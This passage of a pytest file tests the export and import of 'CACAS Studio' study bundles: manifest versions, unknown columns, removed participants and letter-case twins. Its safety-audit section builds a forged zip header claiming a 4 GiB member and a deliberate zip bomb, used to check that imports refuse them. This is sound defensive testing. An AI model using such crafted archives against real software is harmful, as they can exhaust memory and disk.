        daily = export.export_tables(s)["daily"]
        stored = s.interactions_frame("P01")["time"].iloc[0]
    assert daily["success_ceiling"].tolist() == [0.0]  # the version in force then: cough only
    assert stored == when.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def test_daily_says_which_preferences_each_days_accuracy_was_scored_on(tmp_path):
    """Preferences edited mid-study leave the earlier days scored on the earlier version: daily.csv's
    last column says which, so days scored on two versions are not read as one line."""
    with StudyStore(tmp_path / "s.sqlite") as s:
        s.add_participant("P01")
        s.save_preferences("P01", [COUGH])
        s.record_adaptation("P01", 0, "cacas", {}, 0.0, {"preference_accuracy": 0.3, "preferences_version": 1})
        for day, version in ((1, 1), (2, 2)):
            d = s.open_day("P01")
            s.record_interaction("P01", d, activity="cough", scene="bedroom", hour=8.0, interval_minutes=30,
                                 robot_action="pain check", response="accept")
            s.close_day("P01", d)
            if version == 2:  # the participant described their preferences again after day 2
                s.save_preferences("P01", [dict(COUGH, action="show compassion")])
            v = s.save_policy("P01", d, "cacas", policy_bytes(f"after day {d}"))
            s.record_adaptation("P01", d, "cacas", {}, 1.0, {"preference_accuracy": 0.5 + d / 10,
                                                               "preferences_version": version}, policy_version=v)
        s.record_adaptation("P01", 2, "nn", {}, 1.0, {"preference_accuracy": 0.2})  # recorded before runs named it
        s.open_day("P01")
        daily = export.export_tables(s)["daily"]
    got = {(r.method, r.day): (r.preference_accuracy, r.preferences_version) for r in daily.itertuples()}
    assert got[("cacas", 1)] == (0.3, 1) and got[("cacas", 2)] == (0.6, 1) and got[("cacas", 3)] == (0.7, 2)
    assert pd.isna(got[("nn", 3)][1]) and got[("nn", 3)][0] == pytest.approx(0.2)
    assert str(daily["preferences_version"].dtype) == "Int64"


def test_a_participant_removed_while_the_export_reads_policy_files_is_read_again(store, tmp_path, monkeypatch):
    """Review: a participant removed between the tables' snapshot and the reads of their policy files
    failed the export with "restore it from a backup", though nothing was lost; the export reads the
    tables again and writes the study as it is now. A file missing for good is still refused."""
    load, removed = store.load_policy, []

    def remove_first(who, **kw):
        if not removed:
            with StudyStore(store.path) as other:  # another tab removes P02, files and all
                other.remove_participant("P02", confirm="P02")
            removed.append("P02")
        return load(who, **kw)

    monkeypatch.setattr(store, "load_policy", remove_first)
    result = export.export_study(store, tmp_path / "out")
    assert removed == ["P02"]
    assert set(pd.read_csv(result.tables["participants"])["participant"]) == {"P01"}
    with zipfile.ZipFile(result.bundle) as zf:
        assert sum(n.startswith("policies/") for n in zf.namelist()) == 2
    for f in (store.path.parent / "policies").rglob("*"):
        if f.is_file():
            f.unlink()  # lost for good: the tables do not change, and the message says so
    with pytest.raises(CacasError, match=r"the zip needs every policy file \(restore it from a backup\)"):
        export.export_study(store, tmp_path / "again")


# --- the bundle's format: its version, and columns an import would lose (safety audit L6) ----------

def test_every_column_the_export_writes_is_one_an_import_knows(store):
    """The columns import reads or works out again are exactly those the export writes: a column added
    to the export and not here would make every new bundle refused."""
    from cacas.store.restore import RESTORE_COLUMNS, known_columns

    tables = export.export_tables(store)
    for name in RESTORE_COLUMNS:
        assert sorted(tables[name].columns) == sorted(known_columns(name)), name


@pytest.mark.parametrize("table,columns", [("interactions", ["mood"]), ("participants", ["email", "phone"]),
                                           ("events", ["Unnamed: 4"])])
def test_a_table_with_a_column_import_does_not_know_is_refused_and_leaves_nothing(bundle, tmp_path, table,
                                                                                   columns):
    """Safety audit L6: a column a newer CACAS Studio writes (or an edited file's) was dropped on
    import without a word."""
    from cacas.store.restore import known_columns

    bad = _rewrite(bundle, tmp_path / "bad.zip", table, lambda df: df.assign(**{c: "x" for c in columns}))
    target = tmp_path / "new" / "study.sqlite"
    said = ", ".join(repr(c) for c in columns)
    with pytest.raises(CacasError) as refused:
        export.import_bundle(bad, target)
    assert str(refused.value) == (
        f"{bad}: {table}.csv has {'a column' if len(columns) == 1 else 'columns'} this CACAS Studio does not know "
        f"({said}), which an import would lose; valid: the columns cacas export writes "
        f"({', '.join(known_columns(table))}). A bundle written by a newer CACAS Studio needs that version to "
        "import it")
    assert not target.exists() and not target.parent.exists()


def test_restore_refuses_an_unknown_column_before_writing_anything(bundle_tables, tmp_path):
    tables, policies = bundle_tables
    tables = dict(tables, days=tables["days"].assign(weather="rain"))
    with StudyStore(tmp_path / "new.sqlite") as s:
        before = _counts(s.path)
        with pytest.raises(CacasError, match=r"^days.csv has a column this CACAS Studio does not know \('weather'\)"):
            restore(s, tables, policies)
        assert _counts(s.path) == before


def test_a_bundle_says_its_format_version_and_stays_the_same_bytes(store, tmp_path):
    result = export.export_study(store, tmp_path / "out")
    with zipfile.ZipFile(result.bundle) as zf:
        assert zf.namelist()[0] == "manifest.json"
        assert json.loads(zf.read("manifest.json")) == {"format": "cacas-study-bundle", "version": 1}
    assert export.BUNDLE_VERSION == 1
    assert export.bundle_bytes(store) == result.bundle.read_bytes()
    assert not (tmp_path / "out" / "manifest.json").exists()  # in the zip only


def _with_manifest(bundle, out, data):
    """A copy of ``bundle`` whose manifest.json holds ``data`` (None: no manifest, as before it)."""
    with zipfile.ZipFile(bundle) as zin, zipfile.ZipFile(out, "w") as zout:
        for name in zin.namelist():
            if name != "manifest.json":
                zout.writestr(name, zin.read(name))
        if data is not None:
            zout.writestr("manifest.json", data)
    return out


def test_a_bundle_of_a_newer_format_is_refused_and_leaves_nothing(bundle, tmp_path):
    newer = _with_manifest(bundle, tmp_path / "newer.zip", json.dumps({"format": "cacas-study-bundle",
                                                                        "version": 2}))
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError) as refused:
        export.import_bundle(newer, target)
    assert str(refused.value) == (
        f"{newer}: was written by a newer CACAS Studio (bundle format version 2); this one imports versions 1 to 1 "
        "and would lose what is new in it; update CACAS Studio, then import it; nothing was imported")
    assert not target.exists() and not target.parent.exists()


@pytest.mark.parametrize("data,message", [
    (b"{not json", r"manifest.json in the bundle is not valid JSON \("),
    (json.dumps({"format": "other", "version": 1}), r"manifest.json in the bundle does not name a study bundle "
                                                     r"\(format 'other'\)"),
    (json.dumps({"format": "cacas-study-bundle", "version": "1"}), r"manifest.json in the bundle gives the version '1'"),
    (json.dumps({"format": "cacas-study-bundle", "version": 0}), r"manifest.json in the bundle gives the version 0"),
])
def test_a_manifest_import_cannot_read_is_refused(bundle, tmp_path, data, message):
    bad = _with_manifest(bundle, tmp_path / "bad.zip", data)
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError, match=message + r'.*; valid: \{"format": "cacas-study-bundle", "version": N\} '
                                                   r"with N from 1 to 1"):
        export.import_bundle(bad, target)
    assert not target.exists()


def test_a_bundle_written_before_the_manifest_still_imports(bundle, tmp_path):
    old = _with_manifest(bundle, tmp_path / "old.zip", None)
    target = tmp_path / "new" / "study.sqlite"
    assert export.import_bundle(old, target).interactions == 20


# --- a member's size is checked before it is read (safety audit L7) ---------------------------------

@pytest.fixture
def opened(monkeypatch):
    """The names of the zip members read (ZipFile.read opens each)."""
    names = []
    real = zipfile.ZipFile.open

    def spy(self, name, *args, **kwargs):
        names.append(getattr(name, "filename", name))
        return real(self, name, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", spy)
    return names


def _claiming(bundle, out, member, size):
    """A copy of ``bundle`` whose central directory says ``member`` is ``size`` bytes uncompressed."""
    data = bytearray(bundle.read_bytes())
    at = data.find(b"PK\x01\x02")
    while at != -1:
        length = int.from_bytes(data[at + 28:at + 30], "little")
        if data[at + 46:at + 46 + length] == member.encode():
            data[at + 24:at + 28] = size.to_bytes(4, "little")
            break
        at = data.find(b"PK\x01\x02", at + 4)
    else:
        raise AssertionError(f"{member} not in {bundle}")
    out.write_bytes(bytes(data))
    return out


def test_a_member_claiming_more_than_the_limit_is_refused_before_it_is_read(bundle, tmp_path, opened):
    crafted = _claiming(bundle, tmp_path / "crafted.zip", "interactions.csv", 2**32 - 16)
    with zipfile.ZipFile(crafted) as zf:  # the crafted size is what the zip says
        assert zf.getinfo("interactions.csv").file_size == 2**32 - 16
    opened.clear()
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError) as refused:
        export.import_bundle(crafted, target)
    assert str(refused.value) == (
        f"{crafted}: interactions.csv in the bundle is 4294967280 bytes (4096.0 MiB) uncompressed, over the limit of "
        "268435456 bytes (256.0 MiB) for one file of a bundle; valid: the cacas-study.zip cacas export wrote; nothing "
        "was imported")
    assert opened == []  # no member read at all
    assert not target.exists() and not target.parent.exists()


def test_a_member_compressed_like_a_zip_bomb_is_refused_before_it_is_read(bundle, tmp_path, opened):
    """events.csv followed by 8 MiB of blank lines (which pandas skips: it imported) compresses
    about 1000 to 1."""
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bundle) as zin, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zout:
        for name in zin.namelist():
            data = zin.read(name)
            zout.writestr(name, data + b"\n" * 2**23 if name == "events.csv" else data)
    opened.clear()
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError) as refused:
        export.import_bundle(bomb, target)
    assert re.fullmatch(
        rf"{re.escape(str(bomb))}: events.csv in the bundle is compressed \d+ to 1 \(\d+ bytes \(8\.0 MiB\) from "
        r"\d+ bytes\), over the limit of 200 to 1 \(a study's tables come to about 30 at most\); valid: the "
        r"cacas-study.zip cacas export wrote; nothing was imported", str(refused.value)), str(refused.value)
    assert "events.csv" not in opened
    assert not target.exists() and not target.parent.exists()


def test_members_larger_together_than_the_limit_are_refused(bundle, tmp_path, monkeypatch, opened):
    monkeypatch.setattr(export, "MAX_BUNDLE_BYTES", 10_000)  # the bundle's members read come to ~20 kB
    monkeypatch.setattr(export, "BUNDLE_EXPANSION", 0)  # the limit alone, whatever the zip's own size
    opened.clear()
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError, match=r": the bundle's tables and policy files are \d+ bytes uncompressed by "
                                         r"\S+, over the limit of 10000 bytes for a whole bundle; valid: the "
                                         r"cacas-study.zip cacas export wrote; nothing was imported$"):
        export.import_bundle(bundle, target)
    assert opened == []
    assert not target.exists()


def test_a_large_study_whose_zip_is_mostly_policy_files_imports_past_the_limit(bundle, tmp_path, monkeypatch, opened):
    """Scale walk: cacas export wrote the zip of 82 participants x 21 days (1,052 MiB, 1,722 policy files of 640 KB
    stored as they are) and cacas import refused it, "over the limit of 1024.0 MiB for a whole bundle; valid: the
    cacas-study.zip cacas export wrote". Members that come to at most BUNDLE_EXPANSION times the zip's own size
    pass the total limit (a zip bomb's come to hundreds of times); more than that is refused, said so."""
    from cacas.store.restore import RESTORE_COLUMNS

    with zipfile.ZipFile(bundle) as zf:  # the members an import reads, as check_sizes counts them
        read = sum(i.file_size for i in zf.infolist() if i.filename == export.MANIFEST_NAME or i.filename.startswith(
            "policies/") or i.filename in {f"{t}.csv" for t in RESTORE_COLUMNS})
    assert bundle.stat().st_size < read <= 2 * bundle.stat().st_size  # the tables deflated: more than the zip
    monkeypatch.setattr(export, "MAX_BUNDLE_BYTES", read - 1)  # as the scale walk's: over the limit by its policies
    assert export.import_bundle(bundle, tmp_path / "new" / "study.sqlite").interactions == 20
    monkeypatch.setattr(export, "MAX_BUNDLE_BYTES", 1000)
    monkeypatch.setattr(export, "BUNDLE_EXPANSION", 1)  # now the members hold more than the zip's size allows
    opened.clear()
    with pytest.raises(CacasError, match=rf": the bundle's tables and policy files are \d+ bytes uncompressed by "
                                         rf"\S+, over the limit of {bundle.stat().st_size} bytes \(1 times the "
                                         r"bundle's own size\) for a whole bundle; valid: the cacas-study.zip cacas "
                                         r"export wrote; nothing was imported$"):
        export.import_bundle(bundle, tmp_path / "other" / "study.sqlite")
    assert opened == []


def test_the_size_limits_leave_a_real_bundle_and_other_files_alone(bundle, tmp_path):
    """A study's tables compress about 13 to 1; a file the import never reads is not counted."""
    with zipfile.ZipFile(bundle) as zf:
        assert max(i.file_size / i.compress_size for i in zf.infolist()) < export.MAX_COMPRESSION_RATIO
    odd = _with_entries(bundle, tmp_path / "odd.zip")
    with zipfile.ZipFile(odd, "a", zipfile.ZIP_DEFLATED) as zf:  # compressed ~1000 to 1, never read
        zf.writestr("readme.txt", b"\n" * 2**23)
    assert export.import_bundle(odd, tmp_path / "new" / "study.sqlite").interactions == 20


def _case_twins(path):
    """A study database holding P01 and p01 (as add_participant wrote them before its check), each
    with a policy file."""
    with StudyStore(path) as s:
        s.add_participant("P01")
        with s._conn:
            s._conn.execute("INSERT INTO participants (study_id, code, created_at, updated_at) VALUES "
                            "((SELECT id FROM studies WHERE name = 'default'), 'p01', '2026-01-05T10:00:00.000Z', "
                            "'2026-01-05T10:00:00.000Z')")
        for who in ("P01", "p01"):
            s.save_policy(who, 0, "cacas", policy_bytes(f"{who}'s initial policy"))
    return path


def _case_blind(monkeypatch):
    """The file system taken for one that does not tell letter case apart (macOS's default), as
    ``files.ignores_letter_case`` finds out by probing the folder (this one tells it apart)."""
    from cacas.store import files

    monkeypatch.setattr(files, "ignores_letter_case", lambda folder: True)


def test_the_letter_case_probe_finds_what_the_folder_does(tmp_path):
    from cacas.store import files

    (tmp_path / "probe").write_text("x")
    assert files.ignores_letter_case(tmp_path) == (tmp_path / "PROBE").exists()
    assert files.ignores_letter_case(tmp_path / "not" / "made") == (tmp_path / "PROBE").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["probe"]  # the probe's file is gone, nothing made


def test_case_twins_are_refused_where_the_file_system_does_not_tell_letter_case_apart(tmp_path, monkeypatch):
    """Safety audit L4: P01 and p01 (possible only in an imported study) share policies/P01/ on a
    file system that does not tell letter case apart, and removing one deleted the other's files.
    Such an import is refused there, in one message, and nothing is made; where letter case is told
    apart it imports (with its note)."""
    bundle = export.export_study(_case_twins(tmp_path / "a" / "study.sqlite"), tmp_path / "out").bundle
    _case_blind(monkeypatch)
    target = tmp_path / "b" / "moved.sqlite"
    with pytest.raises(CacasError) as err:
        export.import_bundle(bundle, target)
    assert str(err.value) == (
        f"{bundle}: participants.csv holds participants P01 and p01, whose codes differ only in letter case; the "
        f"file system of {target.parent} does not tell letter case apart (as macOS's and Windows' do by default), so "
        "they would share one folder of policy files, and removing one would delete the other's; valid: a disk that "
        "tells letter case apart (on macOS, a case-sensitive APFS volume); nothing was imported")
    assert not (tmp_path / "b").exists()
    monkeypatch.undo()
    if (tmp_path / "OUT").exists():  # pragma: no cover - this machine's disk does not tell letter case apart
        return
    assert export.import_bundle(bundle, target).notes


def test_a_code_whose_case_twin_is_in_a_database_beside_is_refused_there(store, tmp_path, monkeypatch):
    """The databases beside each other share policies/: a pilot's p01 and an imported P01 would
    share one folder on such a file system too."""
    bundle = export.export_study(store, tmp_path / "out").bundle
    target = tmp_path / "b" / "moved.sqlite"
    with StudyStore(tmp_path / "b" / "pilot.sqlite") as pilot:
        pilot.add_participant("p01")
    _case_blind(monkeypatch)
    with pytest.raises(CacasError) as err:
        export.import_bundle(bundle, target)
    assert str(err.value).startswith(
        f"{bundle}: participant P01 differs only in letter case from participant p01 of the study database "
        f"pilot.sqlite beside moved.sqlite; the file system of {target.parent} does not tell letter case apart")
    assert str(err.value).endswith("valid: another folder for the new database, or a disk that tells letter case "
                                   "apart (on macOS, a case-sensitive APFS volume); nothing was imported")
    assert sorted(p.name for p in target.parent.iterdir()) == ["pilot.sqlite", "pilot.sqlite-writer.lock"]
